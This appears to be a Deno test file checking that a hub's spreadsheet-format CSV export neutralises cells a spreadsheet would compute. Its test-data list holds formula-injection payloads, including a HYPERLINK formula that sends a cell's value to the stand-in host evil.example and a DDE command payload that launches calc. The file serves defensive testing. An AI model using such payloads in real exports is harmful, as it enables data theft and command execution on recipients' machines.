import { parse } from "csv-parse/sync";
import { withoutFormulas } from "../../../src/hub/rows/row_stream.ts";
import { assert, assertEquals } from "../../assert.ts";
import { consolePages } from "../../../src/hub/pages/mod.tsx";
import { startTestHub } from "../start_hub.ts";
import { linkedDatabase, loaded, queryBatch } from "./query_batch.ts";

const dangerous = [
  "=1+1",
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1)",
  "\t=1",
  "\r=1",
  "a;=1+1",
  "a\n=1+1",
  'x","=1+1',
  "a|@b",
  "＝1+1",
];
const harmless = ["Süd", "-5", "+3.5", "-1,5", "a=b", "x-y", "it's", "", "'=1"];

Deno.test("cells that a spreadsheet would compute are texts in its download, and byte for byte in the API's", async () => {
  await using test = await startTestHub({ pages: consolePages });
  const { id, agent } = await linkedDatabase(test.admin, { dataType: "contact" });
  const names = [...dangerous, ...harmless];
  const rows = names.map((
    name,
    index,
  ) => ["q", name, `2026-07-01 10:${String(index).padStart(2, "0")}:00`, "1", "", ""]);
  await agent.deliver(queryBatch(agent, {
    dataType: "contact",
    from: "2026-07-01T08:00:00Z",
    to: "2026-07-01T09:00:00Z",
    sequence: 1,
    rows,
  }));
  assertEquals((await loaded(test.admin, id)).rows, names.length);
  const columns = async (format: string) => {
    const response = await test.admin.request("GET", `/api/v1/integrations/${id}/rows?format=${format}`);
    assertEquals(response.status, 200);
    assert(response.headers.get("content-disposition")?.includes('filename="contact.csv"'));
    const records = parse(await response.text(), { columns: true }) as { queuename: string }[];
    return records.map(({ queuename }) => queuename);
  };
  assertEquals(await columns("csv"), names);
  const safe = await columns("spreadsheet");
  assertEquals(safe, names.map(withoutFormulas));
  for (const [index, name] of dangerous.entries()) {
    assert(safe[index] !== name && !/(^|[;,|\t\r\n])[=+@＝-]/.test(safe[index] ?? ""), `${name} → ${safe[index]}`);
  }
  assertEquals(safe.slice(dangerous.length), harmless);
});
